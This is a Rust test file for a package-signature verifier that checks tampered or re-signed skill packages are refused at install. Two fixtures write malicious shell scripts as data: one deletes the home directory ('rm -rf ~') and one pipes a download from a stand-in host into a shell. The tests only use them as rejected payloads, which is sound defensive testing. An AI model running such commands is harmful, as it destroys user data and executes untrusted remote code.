//! A package changed after signing, or a signature moved to another package.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::SystemTime;

use skillbox_certs::{package_digest, VerifyError, SIGNATURE_FILE};

use super::common::{assert_refused, sign, verify, Pki, NAME, VERSION};
use super::signature_file::edit_signature;

fn signed_package(pki: &Pki, label: &str) -> std::path::PathBuf {
    let (chain, key) = pki.developer(label);
    let pkg = pki.package(label);
    sign(&pkg, &chain, &key);
    verify(&pki.store(), &pkg).unwrap();
    pkg
}

fn assert_digest_mismatch(pki: &Pki, pkg: &std::path::Path) {
    let err = verify(&pki.store(), pkg).unwrap_err();
    assert!(matches!(err, VerifyError::DigestMismatch { .. }), "{err}");
    assert_refused(&err, "digest", "do not match the signed digest");
}

#[test]
fn install_rejects_one_byte_changed_after_signing() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "byte");
    let path = pkg.join("lib/helper.py");
    let mut bytes = fs::read(&path).unwrap();
    bytes[0] ^= 0x01;
    fs::write(&path, bytes).unwrap();
    assert_digest_mismatch(&pki, &pkg);
}

#[test]
fn install_rejects_added_file() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "added");
    fs::write(pkg.join("lib/extra.py"), "import os\n").unwrap();
    assert_digest_mismatch(&pki, &pkg);
}

#[test]
fn install_rejects_removed_file() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "removed");
    fs::remove_file(pkg.join("lib/helper.py")).unwrap();
    assert_digest_mismatch(&pki, &pkg);
}

#[test]
fn install_rejects_changed_mode() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "mode");
    fs::set_permissions(pkg.join("lib/helper.py"), fs::Permissions::from_mode(0o755)).unwrap();
    assert_digest_mismatch(&pki, &pkg);
}

#[test]
fn install_rejects_signature_over_another_digest() {
    let pki = Pki::new();
    let signed = signed_package(&pki, "original");
    let other = pki.package("other");
    fs::write(other.join("run.sh"), "#!/bin/sh\nrm -rf ~\n").unwrap();
    fs::copy(signed.join(SIGNATURE_FILE), other.join(SIGNATURE_FILE)).unwrap();
    let err = verify(&pki.store(), &other).unwrap_err();
    let VerifyError::DigestMismatch { signed: s, actual } = &err else {
        panic!("expected DigestMismatch, got {err}");
    };
    assert_eq!(actual, &package_digest(&other).unwrap().prefixed());
    assert_ne!(s, actual);
    assert_refused(&err, "digest", actual);
}

#[test]
fn install_rejects_digest_field_rewritten_to_match() {
    let pki = Pki::new();
    let signed = signed_package(&pki, "orig2");
    let other = pki.package("other2");
    fs::write(other.join("run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    fs::copy(signed.join(SIGNATURE_FILE), other.join(SIGNATURE_FILE)).unwrap();
    let actual = package_digest(&other).unwrap().prefixed();
    edit_signature(&other, |j| j["digest"] = actual.into());
    let err = verify(&pki.store(), &other).unwrap_err();
    assert!(matches!(err, VerifyError::BadSignature), "{err}");
    assert_refused(&err, "signature", "does not verify");
}

#[test]
fn install_rejects_signed_at_rewritten() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "time");
    edit_signature(&pkg, |j| j["signed_at"] = 1.into());
    let err = verify(&pki.store(), &pkg).unwrap_err();
    assert!(matches!(err, VerifyError::BadSignature), "{err}");
}

#[test]
fn install_rejects_signed_name_not_the_manifests() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "name");
    let err = pki
        .store()
        .verify_package(&pkg, "other-skill", VERSION, SystemTime::now())
        .unwrap_err();
    assert!(
        matches!(&err, VerifyError::NameMismatch { signed, manifest } if signed == NAME && manifest == "other-skill"),
        "{err}"
    );
    assert_refused(&err, "name", "other-skill");
}

#[test]
fn install_rejects_signed_version_not_the_manifests() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "version");
    let err = pki
        .store()
        .verify_package(&pkg, NAME, "2.0.0", SystemTime::now())
        .unwrap_err();
    assert!(
        matches!(&err, VerifyError::VersionMismatch { signed, manifest } if signed == VERSION && manifest == "2.0.0"),
        "{err}"
    );
    assert_refused(&err, "version", "2.0.0");
}

#[test]
fn install_rejects_name_rewritten_in_signature() {
    let pki = Pki::new();
    let pkg = signed_package(&pki, "rename");
    edit_signature(&pkg, |j| j["name"] = "other-skill".into());
    let err = pki
        .store()
        .verify_package(&pkg, "other-skill", VERSION, SystemTime::now())
        .unwrap_err();
    assert!(matches!(err, VerifyError::BadSignature), "{err}");
}
